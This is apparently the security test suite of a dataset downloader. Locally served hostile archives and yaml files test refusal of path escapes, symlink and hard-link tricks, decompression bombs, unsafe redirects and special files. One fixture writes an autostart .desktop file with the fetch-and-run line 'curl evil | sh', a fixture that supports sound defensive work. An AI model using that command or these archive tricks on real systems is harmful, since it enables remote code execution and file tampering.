"""Hostile dataset yamls, archives and servers: each attack is a named test, and none may touch what it did not make.

Everything is served from 127.0.0.1. After every refusal the tests check the effect on disk: the user's files
byte for byte, and no dataset folder, temporary file or extracted folder left behind.
"""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import zipfile
from pathlib import Path

import pytest
from _http_server import served  # noqa: F401 (a fixture)

from detrain.data.dataset_yaml import load_dataset_yaml
from detrain.data.download import DownloadLimits, download_dataset, marker_name
from detrain.errors import DatasetError
from detrain.system import net

HEADER = "train: images/train\nval: images/val\nnames: [thing]\n"
TOY = {
    "toy/images/train/a.jpg": b"jpg-a",
    "toy/images/val/b.jpg": b"jpg-b",
    "toy/labels/train/a.txt": b"0 .5 .5 .1 .1\n",
}


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _tar(
    path: Path, files: dict[str, bytes], links: dict[str, str] | None = None, hardlinks: dict[str, str] | None = None
) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for kind, table in ((tarfile.SYMTYPE, links or {}), (tarfile.LNKTYPE, hardlinks or {})):
            for name, target in table.items():
                info = tarfile.TarInfo(name)
                info.type, info.linkname = kind, target
                tf.addfile(info)
    return path


def _tree(folder: Path) -> dict[str, bytes | str]:
    """Every path under `folder` with its bytes (files), its target (links) or 'dir'."""
    out: dict[str, bytes | str] = {}
    for p in sorted(folder.rglob("*")):
        key = str(p.relative_to(folder))
        out[key] = f"-> {p.readlink()}" if p.is_symlink() else "dir" if p.is_dir() else p.read_bytes()
    return out


def _users_folder(folder: Path) -> Path:
    (folder / "images" / "val").mkdir(parents=True)
    (folder / "images" / "val" / "mine.jpg").write_bytes(b"my photo")
    (folder / "notes").mkdir()
    (folder / "notes" / "thesis.txt").write_text("months of work")
    return folder


# ---- the destination -------------------------------------------------------------------------------------


def test_archive_entry_named_like_a_users_folder_never_touches_it(served, tmp_path):
    # The yaml: `path:` is the user's existing folder, the archive holds entries named like its folders.
    server, www = served
    _zip(www / "evil.zip", {"notes/thesis.txt": b"gone", "images/train/a.jpg": b"jpg"})
    project = _users_folder(tmp_path / "project")
    (tmp_path / "data.yaml").write_text(f"path: project\n{HEADER}download: {server.url('evil.zip')}\n")
    before, around = _tree(project), sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(
        DatasetError,
        match=r"refusing to download .*evil\.zip into .*project: the folder exists and "
        r"holds no completed detrain download",
    ):
        load_dataset_yaml(tmp_path / "data.yaml")
    assert _tree(project) == before
    assert server.hits == []  # refused before fetching anything
    assert sorted(p.name for p in tmp_path.iterdir()) == around  # not even a lock file beside it


def test_archive_entry_named_like_a_folder_added_to_our_download_never_touches_it(served, tmp_path):
    server, www = served
    _zip(www / "toy.zip", TOY)
    _zip(www / "more.zip", {"notes/thesis.txt": b"gone", "extra.txt": b"x"})
    root = tmp_path / "toy"
    download_dataset(server.url("toy.zip"), root, progress=False)
    (root / "notes").mkdir()
    (root / "notes" / "thesis.txt").write_text("months of work")  # the user's own folder, after our download
    before = _tree(root)
    with pytest.raises(DatasetError, match=r"already holds 'notes', which the archive would replace; nothing was"):
        download_dataset(server.url("more.zip"), root, progress=False)
    assert _tree(root) == before  # extra.txt not added either: all or nothing
    assert not (root / marker_name(server.url("more.zip"))).exists()


def test_a_second_archive_adds_beside_our_first_one(served, tmp_path):
    server, www = served
    _zip(www / "toy.zip", TOY)
    _zip(www / "more.zip", {"more/extra/x.txt": b"x", "more/README": b"r"})
    root = tmp_path / "toy"
    download_dataset([server.url("toy.zip"), server.url("more.zip")], root, progress=False)
    markers = sorted(marker_name(server.url(n)) for n in ("toy.zip", "more.zip"))
    assert sorted(p.name for p in root.iterdir()) == sorted([*markers, "README", "extra", "images", "labels"])
    assert (root / "extra" / "x.txt").read_bytes() == b"x" and (root / "images" / "val" / "b.jpg").is_file()


def test_path_dot_dot_cannot_reach_the_users_folders(served, tmp_path):
    server, www = served
    _zip(www / "evil.zip", {"notes/thesis.txt": b"gone"})
    home = _users_folder(tmp_path / "home")
    (home / "Downloads" / "x").mkdir(parents=True)
    yaml_file = home / "Downloads" / "x" / "data.yaml"
    yaml_file.write_text(f"path: ../..\n{HEADER}download: {server.url('evil.zip')}\n")
    before = _tree(home)
    with pytest.raises(DatasetError, match=r"path: .*home is outside the yaml's folder and the datasets folder"):
        load_dataset_yaml(yaml_file)
    # with download_anywhere=true the second line of defence holds: a folder with files is never written into
    with pytest.raises(DatasetError, match=r"into .*home: the folder exists and holds no completed detrain download"):
        load_dataset_yaml(yaml_file, limits=DownloadLimits(anywhere=True))
    assert _tree(home) == before and server.hits == []


@pytest.mark.parametrize("where", ["../outside", "images/../../outside", "/tmp/detrain-abs", "~/detrain-home"])
def test_download_dir_escaping_the_dataset_is_refused(served, tmp_path, where):
    server, www = served
    _zip(www / "a.zip", {"a/x.jpg": b"x"})
    (tmp_path / "data.yaml").write_text(
        f"path: ds\n{HEADER}download:\n  - url: {server.url('a.zip')}\n    dir: '{where}'\n"
    )
    with pytest.raises(DatasetError, match=r"download: entry 1: dir: .* must be a folder inside .*ds \(relative"):
        load_dataset_yaml(tmp_path / "data.yaml")
    assert server.hits == [] and sorted(p.name for p in tmp_path.iterdir()) == ["data.yaml", "www"]


def test_download_dir_through_a_symlink_is_refused(served, tmp_path):
    server, www = served
    _zip(www / "train.zip", {"train/a.jpg": b"x"})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "ds").mkdir()
    (tmp_path / "ds" / "images").symlink_to(elsewhere)
    (tmp_path / "data.yaml").write_text(
        f"path: ds\n{HEADER}download:\n  - url: {server.url('train.zip')}\n    dir: images/train\n"
    )
    with pytest.raises(DatasetError, match=r"into .*ds/images/train: it resolves to .*elsewhere/train, outside .*ds"):
        load_dataset_yaml(tmp_path / "data.yaml")
    assert list(elsewhere.iterdir()) == [] and server.hits == []


def test_bundled_yaml_path_leaving_the_datasets_folder_is_refused(served, tmp_path, monkeypatch):
    from detrain.data import dataset_yaml

    server, _ = served
    bundled = tmp_path / "bundled"
    bundled.mkdir()
    (bundled / "evil.yaml").write_text(f"path: ../../somewhere\n{HEADER}download: {server.url('evil.zip')}\n")
    monkeypatch.setattr(dataset_yaml, "_bundled_dir", lambda: bundled)
    monkeypatch.setenv("DETRAIN_DATASETS_DIR", str(tmp_path / "datasets"))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DatasetError, match=r"evil\.yaml: path: .* leaves the datasets folder .*datasets"):
        load_dataset_yaml("evil.yaml")
    assert server.hits == []


def test_incomplete_existing_target_is_refused(served, tmp_path):
    server, www = served
    _zip(www / "toy.zip", TOY)
    dest = tmp_path / "toy"
    (dest / "images" / "train").mkdir(parents=True)
    (dest / "images" / "train" / "half.jpg").write_bytes(b"half of an earlier copy")
    before = _tree(dest)
    with pytest.raises(
        DatasetError,
        match=r"into .*toy: the folder exists and holds no completed detrain download "
        r"\(no \.detrain-download-\* file\), so it is never written into",
    ):
        download_dataset(server.url("toy.zip"), dest, progress=False)
    assert _tree(dest) == before and server.hits == []


def test_an_empty_folder_or_a_link_to_one_is_filled(served, tmp_path):
    server, www = served
    _zip(www / "toy.zip", TOY)
    disk = tmp_path / "other-disk" / "toy"
    disk.mkdir(parents=True)
    (tmp_path / "toy").symlink_to(disk)
    download_dataset(server.url("toy.zip"), tmp_path / "toy", progress=False)
    assert (disk / "images" / "train" / "a.jpg").read_bytes() == b"jpg-a"
    assert sorted(p.name for p in disk.iterdir()) == [marker_name(server.url("toy.zip")), "images", "labels"]


# ---- the archive -----------------------------------------------------------------------------------------


def test_tar_member_under_a_symlink_is_refused(served, tmp_path):
    server, www = served
    _tar(www / "bad.tar.gz", {"toy/ok.txt": b"ok", "toy/inner/x.txt": b"x"}, links={"toy/inner": "."})
    with pytest.raises(DatasetError, match=r"member 'toy/inner/x\.txt' lies under the link 'toy/inner'"):
        download_dataset(server.url("bad.tar.gz"), tmp_path / "toy", progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_tar_symlink_through_another_symlink_is_refused(served, tmp_path):
    # 'toy/s' -> '.' is harmless; 'toy/l' -> 's/../..' reads as inside but on disk climbs out of the dataset.
    server, www = served
    _tar(www / "bad.tar.gz", {"toy/ok.txt": b"ok"}, links={"toy/s": ".", "toy/l": "s/../../etc"})
    with pytest.raises(DatasetError, match=r"link 'toy/l' -> 's/\.\./\.\./etc' goes through the link toy/s"):
        download_dataset(server.url("bad.tar.gz"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_tar_symlink_leaving_the_stripped_top_folder_is_refused(served, tmp_path):
    # Inside the archive 'toy/x' -> '../toy/y' stays in; once 'toy/' becomes the dataset folder it points beside it.
    server, www = served
    _tar(www / "bad.tar.gz", {"toy/y": b"y"}, links={"toy/x": "../toy/y"})
    with pytest.raises(DatasetError, match=r"link 'toy/x' -> '\.\./toy/y' points outside"):
        download_dataset(server.url("bad.tar.gz"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_tar_hard_link_to_a_symlink_is_refused(served, tmp_path):
    # A hard link copies the symlink's text to another folder, where it resolves somewhere else.
    server, www = served
    _tar(www / "bad.tar.gz", {"toy/a/b.txt": b"b"}, links={"toy/a/up": "../a"}, hardlinks={"toy/up2": "toy/a/up"})
    with pytest.raises(DatasetError, match=r"link 'toy/up2' -> 'toy/a/up' points outside"):
        download_dataset(server.url("bad.tar.gz"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_tar_device_member_is_refused(served, tmp_path):
    server, www = served
    with tarfile.open(www / "dev.tar", "w") as tf:
        info = tarfile.TarInfo("toy/null")
        info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
        tf.addfile(info)
    with pytest.raises(DatasetError, match=r"member 'toy/null' is a device or pipe"):
        download_dataset(server.url("dev.tar"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_member_named_like_a_download_marker_is_refused(served, tmp_path):
    server, www = served
    _zip(www / "forge.zip", {"toy/a.jpg": b"a", f"toy/{marker_name('https://x.org/other.zip')}": b""})
    with pytest.raises(DatasetError, match=r"is named like detrain's own files"):
        download_dataset(server.url("forge.zip"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_zip_bomb_is_refused_before_extraction(served, tmp_path):
    # 8 MB of zeros deflate to about 8 KB; with a 1 MB cap on the unpacked size the archive is refused unread.
    server, www = served
    bomb = _zip(www / "bomb.zip", {"toy/zeros.bin": bytes(8 << 20)})
    assert bomb.stat().st_size < 64 << 10
    limits = DownloadLimits(max_unpacked_bytes=10**6)
    with pytest.raises(
        DatasetError,
        match=r"bomb\.zip: its files unpack to at least 8388608 bytes, over "
        r"download_max_unpacked_gb \(0\.001 GB\)",
    ):
        download_dataset(server.url("bomb.zip"), tmp_path / "toy", progress=False, limits=limits)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_tar_bomb_header_is_refused_under_the_default_caps(served, tmp_path):
    # A header declaring a 300 GB member (and no data): refused at that header, before any decompression.
    server, www = served
    with tarfile.open(www / "bomb.tar.gz", "w:gz") as tf:
        info = tarfile.TarInfo("toy/huge.bin")
        info.size = 300 * 10**9
        tf.addfile(info)
    assert (www / "bomb.tar.gz").stat().st_size < 1024
    with pytest.raises(
        DatasetError,
        match=r"unpack to at least 300000000000 bytes, over "
        r"download_max_unpacked_gb \(200 GB",
    ):
        download_dataset(server.url("bomb.tar.gz"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_too_many_members_are_refused(served, tmp_path):
    server, www = served
    _zip(www / "many.zip", {f"toy/{i}.txt": b"" for i in range(5)})
    with pytest.raises(DatasetError, match=r"holds at least 5 members, over download_max_files \(3\)"):
        download_dataset(server.url("many.zip"), tmp_path / "toy", progress=False, limits=DownloadLimits(max_members=3))
    assert not (tmp_path / "toy").exists()


# ---- the file and the server -----------------------------------------------------------------------------


def test_wrong_sha256_leaves_nothing(served, tmp_path):
    server, www = served
    data = _zip(www / "toy.zip", TOY).read_bytes()
    (tmp_path / "data.yaml").write_text(
        f"path: toy\n{HEADER}download:\n  url: {server.url('toy.zip')}\n  sha256: {'f' * 64}\n"
    )
    with pytest.raises(
        DatasetError,
        match=rf"toy\.zip has sha256 {hashlib.sha256(data).hexdigest()}, expected "
        rf"{'f' * 64}: deleted it",
    ):
        load_dataset_yaml(tmp_path / "data.yaml")
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "data.yaml", "www"]


def test_right_sha256_is_accepted(served, tmp_path):
    server, www = served
    sha = hashlib.sha256(_zip(www / "toy.zip", TOY).read_bytes()).hexdigest()
    (tmp_path / "data.yaml").write_text(
        f"path: toy\n{HEADER}download:\n  - url: {server.url('toy.zip')}\n    sha256: {sha.upper()}\n"
    )
    assert len(load_dataset_yaml(tmp_path / "data.yaml").train) == 1


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("sha256: abc", r"download: sha256: 'abc' is not a sha256; give the 64 hex digits sha256sum prints$"),
        ("sha256: 1234", r"download: sha256: 1234 is not a sha256; .* in quotes \(YAML read this one as a number\)"),
        ("sha265: " + "0" * 64, r"download: unknown key 'sha265'; valid keys: url, dir, sha256"),
    ],
)
def test_malformed_download_entries_are_clear_errors(served, tmp_path, entry, message):
    server, _ = served
    (tmp_path / "data.yaml").write_text(f"path: toy\n{HEADER}download:\n  url: {server.url('toy.zip')}\n  {entry}\n")
    with pytest.raises(DatasetError, match=rf"data\.yaml: {message}"):
        load_dataset_yaml(tmp_path / "data.yaml")
    assert server.hits == []


def test_https_to_http_redirect_is_refused(served, tmp_path, monkeypatch):
    # No TLS on a test server: judge each hop as if the first URL had been https (the real policy decides).
    server, www = served
    _zip(www / "toy.zip", TOY)
    policy = net.redirect_allowed
    monkeypatch.setattr(net, "redirect_allowed", lambda old, new: policy(old.replace("http:", "https:", 1), new))
    with pytest.raises(
        DatasetError,
        match=r"cannot download .*moved/toy\.zip: refused the redirect from .* to "
        r"http://127\.0\.0\.1:\d+/toy\.zip: an https download must not continue",
    ):
        download_dataset(server.url("moved/toy.zip"), tmp_path / "toy", progress=False)
    assert server.hits == ["/moved/toy.zip"]
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_redirect_within_http_is_followed(served, tmp_path):
    server, www = served
    _zip(www / "toy.zip", TOY)
    download_dataset(server.url("moved/toy.zip"), tmp_path / "toy", progress=False)
    assert (tmp_path / "toy" / "images" / "val" / "b.jpg").read_bytes() == b"jpg-b"


def test_oversized_content_length_is_refused_before_reading(served, tmp_path):
    server, _ = served
    with pytest.raises(
        DatasetError,
        match=r"huge: the server announces 60000000000 bytes, over download_max_gb "
        r"\(50 GB\); raise download_max_gb or download it by hand",
    ):
        download_dataset(server.url("huge"), tmp_path / "toy", progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_body_longer_than_the_cap_is_cut_off(served, tmp_path):
    server, www = served
    (www / "big.bin").write_bytes(bytes(5000))
    with pytest.raises(DatasetError, match=r"the server sent more than 1000 bytes, over download_max_gb"):
        download_dataset(
            server.url("nolength/big.bin"), tmp_path / "toy", progress=False, limits=DownloadLimits(max_bytes=1000)
        )
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_interrupted_download_leaves_nothing(served, tmp_path):
    server, www = served
    size = _zip(www / "toy.zip", TOY).stat().st_size
    with pytest.raises(DatasetError, match=rf"stopped after {size // 2} of {size} bytes"):
        download_dataset(server.url("cut/toy.zip"), tmp_path / "toy", progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".toy.download.lock", "www"]


def test_the_cfg_caps_reach_the_download(served, tmp_path):
    from detrain.config.cfg import make_cfg
    from detrain.data.prepare import load_split

    server, www = served
    _zip(www / "toy.zip", {**TOY, "toy/pad.bin": bytes(4000)})
    (tmp_path / "data.yaml").write_text(f"path: toy\n{HEADER}download: {server.url('toy.zip')}\n")
    cfg = make_cfg({"data": str(tmp_path / "data.yaml"), "download_max_unpacked_gb": 1e-6})
    with pytest.raises(
        DatasetError, match=r"unpack to at least 40\d\d bytes, over download_max_unpacked_gb \(1e-06 GB"
    ):
        load_split(cfg.inputs.data, "train", cfg, verbose=False)
    assert not (tmp_path / "toy").exists()


# ---- issue 25, item 4: ratio cap for tar (and zip), file:// regular files only, path: confined -------------------


class _Zeros(io.RawIOBase):
    """``size`` zero bytes read in chunks: a member's data without holding it in memory."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buf) -> int:  # type: ignore[override]
        n = min(len(buf), self.left)
        buf[:n] = bytes(n)
        self.left -= n
        return n


def test_a_tar_bomb_under_the_absolute_caps_is_refused_by_its_ratio(served, tmp_path):
    """120 MB of zeros gzip to about 120 KB: under every absolute cap, a thousand times its size unpacked."""
    server, www = served
    with tarfile.open(www / "bomb.tar.gz", "w:gz", compresslevel=9) as tf:
        info = tarfile.TarInfo("toy/zeros.bin")
        info.size = 120 * 10**6
        tf.addfile(info, io.BufferedReader(_Zeros(info.size)))
    packed = (www / "bomb.tar.gz").stat().st_size
    assert packed < 10**6
    with pytest.raises(DatasetError, match=rf"its {packed} bytes unpack to at least 120000000 bytes, over 200 times"):
        download_dataset(server.url("bomb.tar.gz"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()
    with zipfile.ZipFile(www / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf, zf.open("toy/a.bin", "w") as member:
        for _ in range(101):  # 101 MB of zeros, written a megabyte at a time
            member.write(bytes(10**6))
    with pytest.raises(DatasetError, match="over 200 times its size"):  # a zip is held to the same ratio
        download_dataset(server.url("bomb.zip"), tmp_path / "toy", progress=False)
    assert not (tmp_path / "toy").exists()


def test_an_archive_that_compresses_like_a_dataset_is_not_refused_by_the_ratio(served, tmp_path):
    server, www = served
    _tar(www / "toy.tar.gz", {"toy/labels/a.txt": b"0 0.5 0.5 0.1 0.1\n" * 1000, "toy/images/a.jpg": b"x" * 1000})
    download_dataset(server.url("toy.tar.gz"), tmp_path / "toy", progress=False)
    assert (tmp_path / "toy" / "labels" / "a.txt").is_file()


def _in_thread(call, fifo: Path):
    """``call()``'s exception in a thread; should it wait on ``fifo``, the writer's end is opened to free it and
    the test fails instead of hanging."""
    import threading

    outcome: list[BaseException] = []

    def run() -> None:
        try:
            call()
        except BaseException as e:  # noqa: BLE001  (handed to the test)
            outcome.append(e)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(20)
    if worker.is_alive():
        with open(fifo, "wb"):
            pass
        worker.join(20)
        pytest.fail("the download waited on a FIFO")
    return outcome[0] if outcome else None


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_file_urls_read_regular_files_only(tmp_path, kind):
    if kind == "fifo":
        source = tmp_path / "data.zip"
        os.mkfifo(source)
    else:
        source = Path("/dev/zero")
    small = DownloadLimits(max_bytes=10**6)  # a regression that streams /dev/zero stops at a megabyte
    error = _in_thread(
        lambda: download_dataset(source.as_uri(), tmp_path / "toy", progress=False, timeout_s=5, limits=small), source
    )
    said = "a FIFO, not a regular file" if kind == "fifo" else "a character device, not a regular file"
    assert isinstance(error, DatasetError) and said in str(error), error
    assert not (tmp_path / "toy").exists()


def test_a_file_url_to_a_regular_file_still_works(tmp_path):
    archive = _zip(tmp_path / "toy.zip", TOY)
    download_dataset(archive.as_uri(), tmp_path / "toy", progress=False)
    assert (tmp_path / "toy" / "images" / "val" / "b.jpg").read_bytes() == b"jpg-b"


def test_path_outside_the_yamls_folder_is_not_filled(served, tmp_path):
    """The reported attack: ``path:`` naming a new folder elsewhere (an autostart folder) received a file."""
    server, www = served
    (www / "evil.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    autostart = tmp_path / "home" / ".config" / "autostart"
    (tmp_path / "project").mkdir()
    yaml_file = tmp_path / "project" / "data.yaml"
    yaml_file.write_text(f"path: {autostart}\n{HEADER}download: {server.url('evil.desktop')}\n")
    with pytest.raises(DatasetError, match=r"path: .*autostart is outside the yaml's folder and the datasets folder"):
        load_dataset_yaml(yaml_file)
    assert not autostart.exists() and server.hits == []
    yaml_file.write_text(f"path: {tmp_path / 'project' / 'toy'}\n{HEADER}download: {server.url('toy.zip')}\n")
    _zip(www / "toy.zip", TOY)
    assert load_dataset_yaml(yaml_file).train  # inside the yaml's folder: fetched
